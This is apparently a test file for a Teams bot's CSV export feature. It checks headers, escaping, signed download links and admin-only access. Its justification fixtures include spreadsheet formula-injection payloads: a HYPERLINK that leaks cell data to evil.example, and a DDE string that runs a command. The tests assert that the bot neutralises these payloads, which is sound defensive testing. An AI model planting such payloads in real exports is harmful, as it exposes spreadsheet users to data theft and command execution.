// CSV exports end to end: people request the just-in-time payment run through the real restify
// `/api/messages` (justifications full of commas, quotes, newlines and formula starts), the
// bot delivers it; the admin types "export assignments …", the loopback connector receives the
// card with the download link, and the test downloads the file from the same HTTP server:
// content, headers and escaping; tampered, unknown and expired links are refused.
import { randomUUID } from 'node:crypto';
import { exportSignature } from '../../src/services/exports';
import { cardOf, cardText } from '../support/botHarness';
import { validateCard } from '../support/cardValidation';
import { LoopbackConnector } from '../support/loopbackConnector';
import { memoryLogger } from '../support/silentLogger';
import { postActivity, startTestApp } from '../support/testApp';
import { parseCsv, parseCsvLeniently } from '../support/csvReader';

type TestApp = Awaited<ReturnType<typeof startTestApp>>;
type Card = Record<string, unknown>;

const TENANT = '00000000-0000-0000-0000-000000000001';
const BOT = { id: '28:6f1c2e9a-0b7d-4c3e-9a51-bd2f8c7e4a10', name: 'Access Packages' };
const BOM = [0xef, 0xbb, 0xbf];

function person(aadObjectId: string, name: string) {
  return { id: `29:1${aadObjectId}`, name, aadObjectId };
}
type Sender = ReturnType<typeof person>;

// examples/directory.yaml: Finance team members may request the payment run; Ivan is the admin.
const lola = person('u-lola', 'Lola Martin');
const nadia = person('u-nadia', 'Nadia Okafor');
const alex = person('00000000-0000-0000-0000-0000000000020', 'Alex Wilber');
const ivan = person('u-ivan', 'Ivan Petrov');
const fred = person('u-fred', 'Fred Jansen');

const JUSTIFICATIONS: Record<string, string> = {
  'u-lola': '=HYPERLINK("http://evil.example/?leak="&A1,"Pay now"), urgent',
  'u-nadia': 'Month end, batch 2\nsecond line: "approved by CFO"',
  '00000000-0000-0000-0000-0000000000020': '@SUM(1+1)*cmd|\' /C calc\'!A0',
};

describe('CSV exports through /api/messages and GET /exports/:id (real restify, loopback connector)', () => {
  let connector: LoopbackConnector;
  let app: TestApp | undefined;
  let logs: ReturnType<typeof memoryLogger>;

  beforeAll(async () => {
    connector = new LoopbackConnector();
    await connector.start();
  });

  afterAll(async () => {
    await connector?.stop();
  });

  beforeEach(async () => {
    logs = memoryLogger();
    app = await startTestApp({ ADMIN_USER_IDS: ivan.aadObjectId, PUBLIC_BASE_URL: 'https://bot.example.com/' }, { logger: logs.logger });
  });

  afterEach(async () => {
    const running = app;
    app = undefined;
    await running?.close();
  });

  function running(): TestApp {
    if (!app) throw new Error('app not started');
    return app;
  }

  function activity(sender: Sender, fields: Record<string, unknown>) {
    const now = new Date();
    return {
      id: randomUUID(),
      timestamp: now.toISOString(),
      channelId: 'msteams',
      serviceUrl: connector.serviceUrl,
      from: sender,
      recipient: BOT,
      conversation: { id: `a:1personal-${sender.aadObjectId}`, conversationType: 'personal', tenantId: TENANT },
      channelData: { tenant: { id: TENANT } },
      locale: 'en-US',
      ...fields,
    };
  }

  /** The person types; the bot's card is POSTed to the connector as the reply. */
  async function say(sender: Sender, text: string): Promise<{ card: Card; text: string }> {
    const sent = activity(sender, { type: 'message', text, textFormat: 'plain' });
    const since = connector.calls.length;
    expect((await postActivity(running().baseUrl, sent)).status).toBe(200);
    const replies = connector.calls.slice(since).filter((c) => c.conversationId === sent.conversation.id && c.activityId === sent.id);
    expect(replies).toHaveLength(1);
    const card = cardOf(replies[0]!.body)!;
    expect(validateCard(card)).toEqual([]);
    return { card, text: cardText(card) };
  }

  async function requestPaymentRun(sender: Sender) {
    const sent = activity(sender, {
      type: 'invoke',
      name: 'adaptiveCard/action',
      value: { action: { type: 'Action.Execute', verb: 'submitRequest', data: { verb: 'submitRequest', packageId: 'payment-run', policyId: 'finance-team', justification: JUSTIFICATIONS[sender.aadObjectId], 'answer:changeTicket': 'CHG0012345' } }, trigger: 'manual' },
    });
    const response = await postActivity(running().baseUrl, sent);
    expect(response.status).toBe(200);
    expect(cardText((response.body as { value: Card }).value)).toContain('Request accepted');
    running().clock.advance(60_000);
  }

  /** The link on the card, pointed at this test's server (PUBLIC_BASE_URL is the public name). */
  function download(card: Card): URL {
    const action = (card.actions as { type: string; url: string }[]).find((a) => a.type === 'Action.OpenUrl')!;
    const url = new URL(action.url);
    expect(url.origin).toBe('https://bot.example.com');
    return new URL(`${url.pathname}${url.search}`, running().baseUrl);
  }

  async function get(url: URL | string) {
    const response = await fetch(url);
    return { status: response.status, headers: response.headers, bytes: Buffer.from(await response.arrayBuffer()) };
  }

  async function exportPaymentRun() {
    await requestPaymentRun(lola);
    await requestPaymentRun(nadia);
    await requestPaymentRun(alex);
    await running().taskRunner.run();
    await running().taskRunner.run();
    const reply = await say(ivan, 'export assignments payment-run');
    expect(reply.text).toContain('Export ready: Assignments of Payment run (just-in-time)');
    expect(reply.text).toContain('Rows 3');
    return { ...reply, url: download(reply.card) };
  }

  it('the admin exports assignments in chat and downloads the CSV: content, headers and escaping', async () => {
    const { url } = await exportPaymentRun();
    const { status, headers, bytes } = await get(url);
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toBe('attachment; filename="assignments-payment-run-2026-11-22T0903Z.csv"');
    expect(headers.get('cache-control')).toBe('no-store');
    expect([...bytes.subarray(0, 3)]).toEqual(BOM);

    const text = bytes.subarray(3).toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(['assignmentId', 'packageId', 'packageName', 'policyId', 'policyName', 'userId', 'userName', 'userPrincipalName', 'state', 'startAt', 'expiresAt', 'endReason', 'resourceRoles', 'requestIds', 'justification', 'createdAt', 'updatedAt']);
    const column = (name: string) => header!.indexOf(name);
    const byUser = new Map(rows.map((r) => [r[column('userId')], r]));
    expect(rows).toHaveLength(3);
    expect(byUser.get('u-lola')).toEqual(
      expect.arrayContaining(['payment-run', 'Payment run (just-in-time)', 'finance-team', 'Finance team', 'Lola Martin', 'lolam@example.com', 'delivered', 'Accounting (Approver): delivered']),
    );
    // Formula starts are neutralised with a leading quote; commas, quotes and newlines survive.
    expect(byUser.get('u-lola')![column('justification')]).toBe(`'${JUSTIFICATIONS['u-lola']}`);
    expect(byUser.get('u-nadia')![column('justification')]).toBe(JUSTIFICATIONS['u-nadia']);
    expect(byUser.get('00000000-0000-0000-0000-0000000000020')![column('justification')]).toBe(`'${JUSTIFICATIONS['00000000-0000-0000-0000-0000000000020']}`);
    expect(byUser.get('u-lola')![column('expiresAt')]).toBe(new Date(Date.parse(byUser.get('u-lola')![column('startAt')]!) + 2 * 3600_000).toISOString());
    // As written on the wire: the dangerous cell is quoted, and its quotes doubled.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Pay now""), urgent"`);
    expect(text).toContain('"Month end, batch 2\nsecond line: ""approved by CFO"""');
    // Opened where the list separator is ';' (or read loosely), no cell starts a formula either.
    for (const separator of [',', ';']) {
      for (const quotes of ['fieldStart', 'anywhere'] as const) {
        const cells = parseCsvLeniently(text, { separator, quotes }).flat();
        expect(cells.filter((cell) => /^[\s"]*[=+\-@]/.test(cell) && !/^[\s"]*[+-]?\d+(\.\d+)?$/.test(cell))).toEqual([]);
      }
    }

    // The same link works again until it expires (any instance could serve it: it is in the store).
    expect((await get(url)).status).toBe(200);
    // The export is audited without its link; no log line carries the signature.
    const sig = url.searchParams.get('sig')!;
    const exported = (await running().repositories.audit.query()).filter((e) => e.action === 'admin.export');
    expect(exported).toEqual([expect.objectContaining({ actorId: 'u-ivan', packageId: 'payment-run', details: expect.objectContaining({ rows: 3 }) })]);
    expect(JSON.stringify(exported)).not.toContain(sig);
    expect(logs.lines()).toContainEqual(expect.objectContaining({ msg: 'request handled', url: url.pathname, status: 200 }));
    expect(JSON.stringify(logs.lines())).not.toContain(sig);
  });

  it('a tampered or missing signature, or a changed id or expiry, gets 403 with a one-line reason', async () => {
    const { url } = await exportPaymentRun();
    const sig = url.searchParams.get('sig')!;
    const tampered = [
      (u: URL) => u.searchParams.set('sig', `${sig.slice(0, -1)}${sig.endsWith('0') ? '1' : '0'}`),
      (u: URL) => u.searchParams.delete('sig'),
      (u: URL) => u.searchParams.set('sig', 'not-hex'),
      (u: URL) => u.searchParams.set('expires', String(Number(u.searchParams.get('expires')) + 3600)),
      (u: URL) => u.searchParams.delete('expires'),
      (u: URL) => (u.pathname = u.pathname.replace(/.$/, (c) => (c === 'A' ? 'B' : 'A'))),
    ];
    for (const change of tampered) {
      const bad = new URL(url);
      change(bad);
      const { status, headers, bytes } = await get(bad);
      expect(status).toBe(403);
      expect(headers.get('content-type')).toBe('text/plain; charset=utf-8');
      expect(headers.get('cache-control')).toBe('no-store');
      expect(bytes.toString('utf8')).toBe('This download link is not valid.\n');
    }
  });

  it('an unknown export with a valid signature is 404; when the link expires the file is deleted and the link gets 410', async () => {
    const { url } = await exportPaymentRun();
    const key = (await running().repositories.settings.get<string>('exportSigningKey'))!;
    const expires = Number(url.searchParams.get('expires'));
    const unknown = new URL(`/exports/EXP-0000000000000000?expires=${expires}&sig=${exportSignature(key, 'EXP-0000000000000000', expires)}`, running().baseUrl);
    const missing = await get(unknown);
    expect(missing.status).toBe(404);
    expect(missing.bytes.toString('utf8')).toBe('There is no such export (it may have expired). Run the export again in Teams.\n');

    running().clock.advance(15 * 60_000);
    // The scheduler loop deletes expired files even if nobody exports or downloads again.
    const id = url.pathname.split('/')[2]!;
    expect(await running().repositories.exports.get(id)).not.toBeNull();
    await running().scheduler.tick();
    expect(await running().repositories.exports.get(id)).toBeNull();
    expect(await running().store.collection('exportChunks').count({})).toBe(0);
    const expired = await get(url);
    expect(expired.status).toBe(410);
    expect(expired.headers.get('cache-control')).toBe('no-store');
    expect(expired.bytes.toString('utf8')).toBe('This download link has expired. Run the export again in Teams.\n');
  });

  it('the audit log exports the same way, and an employee is refused in chat (audited) without a link', async () => {
    const refused = await say(fred, 'export audit');
    expect(refused.text).toContain('Only access package administrators can use export.');
    expect((refused.card.actions as unknown[] | undefined) ?? []).toEqual([]);
    const { card, text } = await say(ivan, 'export audit user fredj@example.com');
    expect(text).toContain('Rows 1');
    const { status, bytes } = await get(download(card));
    expect(status).toBe(200);
    const [header, row] = parseCsv(bytes.subarray(3).toString('utf8'));
    expect(header!.slice(0, 6)).toEqual(['time', 'action', 'actorId', 'actorName', 'userId', 'userName']);
    expect(row!.slice(1, 4)).toEqual(['admin.refused', 'u-fred', 'Fred Jansen']);
    expect(JSON.parse(row![header!.indexOf('details')]!)).toEqual({ command: 'export' });
  });
});
